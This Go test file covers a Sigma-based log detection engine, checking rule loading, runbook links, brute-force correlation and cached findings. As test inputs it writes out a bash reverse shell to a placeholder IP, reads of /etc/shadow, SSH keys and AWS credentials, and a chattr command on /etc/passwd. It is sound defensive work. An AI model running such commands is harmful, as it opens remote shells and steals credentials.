package sigmarules

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/logwarden/logwarden/pkg/logwardenpb"
	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/detect"
	"github.com/logwarden/logwarden/services/anomaly-classifier/internal/rulepack"
)

func TestPackLoads(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	vendored := 0
	for _, f := range rulepack.Files() {
		if rulepack.IsVendored(f.Name) {
			vendored++
		}
	}
	loaded, skipped := 0, 0
	for _, r := range p.Rules.Rules {
		if rulepack.IsVendored(r.File) {
			loaded++
		}
	}
	for _, s := range p.Skipped {
		if !rulepack.IsVendored(s.File) {
			t.Errorf("own rule skipped: %v", s.Error())
		}
		skipped++
	}
	// every SigmaHQ rule file holds one rule: each loads or is listed with a reason
	if loaded+skipped != vendored || vendored < 240 || skipped > 10 {
		t.Fatalf("SigmaHQ: %d files, %d loaded, %d skipped", vendored, loaded, skipped)
	}
	for _, r := range p.Rules.Rules {
		if rulepack.IsVendored(r.File) && r.Author == "" {
			t.Errorf("%s: vendored rule without author", r.File)
		}
	}
}

func TestTuningNamesVendoredRules(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range rulepack.Tuning() {
		r := p.Rules.Rule(o.ID)
		if r == nil || !rulepack.IsVendored(r.File) || r.Level != o.Level || o.Reason == "" {
			t.Errorf("tuning %+v: rule %v", o, r)
		}
	}
}

func TestRuleExamples(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	n, fails := RunTests(p)
	for _, f := range fails {
		t.Error(f)
	}
	if n < 60 {
		t.Fatalf("only %d examples", n)
	}
}

// Every runbook a finding can link to exists in docs/runbooks.
func TestRunbooksExist(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, r := range p.Rules.Rules {
		seen[Runbook(r)] = true
	}
	for _, rb := range Runbooks {
		seen[rb] = true
	}
	for rb := range seen {
		if _, err := os.Stat(filepath.Join("../../../../docs/runbooks", rb+".md")); err != nil {
			t.Errorf("runbook %s: %v", rb, err)
		}
	}
}

func TestFindingExplains(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	d := New(p, "https://docs.example/rb/", 100)
	ev, _ := CaseEvent(TestCase{"command": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "user": "bob"})
	var got *logwardenpb.Finding
	for _, r := range d.DetectLog(ev, time.Now()) {
		if r.Finding.RuleId == "dev-tcp-shell" {
			got = r.Finding
		}
	}
	if got == nil || got.RuleAuthor != "logwarden" || got.RunbookUrl != "https://docs.example/rb/command-and-control.md" ||
		strings.Join(got.AttackIds, ",") != "T1059.004,T1095" || len(got.FalsePositives) == 0 ||
		got.Severity != logwardenpb.Severity_SEVERITY_CRITICAL || got.Reason != "bob: Shell redirected to a network socket: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1" {
		t.Fatalf("finding %v", got)
	}
	// a vendored rule names its SigmaHQ author
	ev, _ = CaseEvent(TestCase{"command": "chattr -i /etc/passwd"})
	found := false
	for _, r := range d.DetectLog(ev, time.Now()) {
		if r.Finding.RuleAuthor != "" && r.Finding.RuleAuthor != "logwarden" {
			found = true
		}
	}
	if !found {
		t.Fatal("no vendored finding with an author for chattr -i")
	}
}

func TestBruteForceCorrelation(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	d := New(p, "", 100)
	t0 := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	var fired []detect.Detection
	for i := 0; i < 5; i++ {
		ev := &logwardenpb.LogEvent{Id: string(rune('a' + i)), Ip: "185.220.1.1", User: "root", Action: "login_failed", Raw: "x"}
		for _, r := range d.DetectLog(ev, t0.Add(time.Duration(i)*time.Second)) {
			if r.Finding.RuleId == "brute-force-ip" {
				fired = append(fired, r)
			}
		}
	}
	if len(fired) != 1 || fired[0].Entity != "185.220.1.1" || fired[0].Count != 5 || fired[0].Episode != "a" || len(fired[0].Evidence) != 5 {
		t.Fatalf("fired %+v", fired)
	}
	if !strings.HasPrefix(fired[0].Finding.Reason, "185.220.1.1: Brute force from one address: 5 matching events in 4s") {
		t.Fatal(fired[0].Finding.Reason)
	}
}

func TestAttackIDs(t *testing.T) {
	got := AttackIDs([]string{"attack.execution", "attack.t1059.004", "attack.T1105", "attack.g0020", "cve.2021-4034"})
	if strings.Join(got, ",") != "T1059.004,T1105" {
		t.Fatal(got)
	}
}

// Cached results of derived events give the same findings as a fresh evaluation,
// and still feed correlations.
func TestResultCache(t *testing.T) {
	p, err := Load("")
	if err != nil {
		t.Fatal(err)
	}
	d := New(p, "", 100)
	t0 := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
	ids := func(cmd string, i int) []string {
		ev, _ := CaseEvent(TestCase{"command": cmd, "user": "carol"})
		ev.Id = cmd + string(rune('a'+i))
		var out []string
		for _, r := range d.DetectLog(ev, t0.Add(time.Duration(i)*time.Second)) {
			out = append(out, r.Finding.RuleId)
		}
		return out
	}
	first := ids("cat /etc/shadow", 0)
	again := ids("cat /etc/shadow", 1) // from the cache
	if strings.Join(first, ",") != strings.Join(again, ",") || !strings.Contains(strings.Join(again, ","), "shadow-read") {
		t.Fatalf("first %v, cached %v", first, again)
	}
	ids("cat /root/.ssh/id_rsa", 2)
	ids("cat /root/.ssh/id_rsa", 3)
	burst := ids("cat /home/carol/.aws/credentials", 4)
	if !strings.Contains(strings.Join(burst, ","), "sensitive-file-burst") {
		t.Fatalf("no burst after three distinct files: %v", burst)
	}
	if again := ids("cat /home/carol/.aws/credentials", 5); !strings.Contains(strings.Join(again, ","), "sensitive-file-burst") {
		t.Fatalf("a cached event no longer feeds the correlation: %v", again)
	}
}
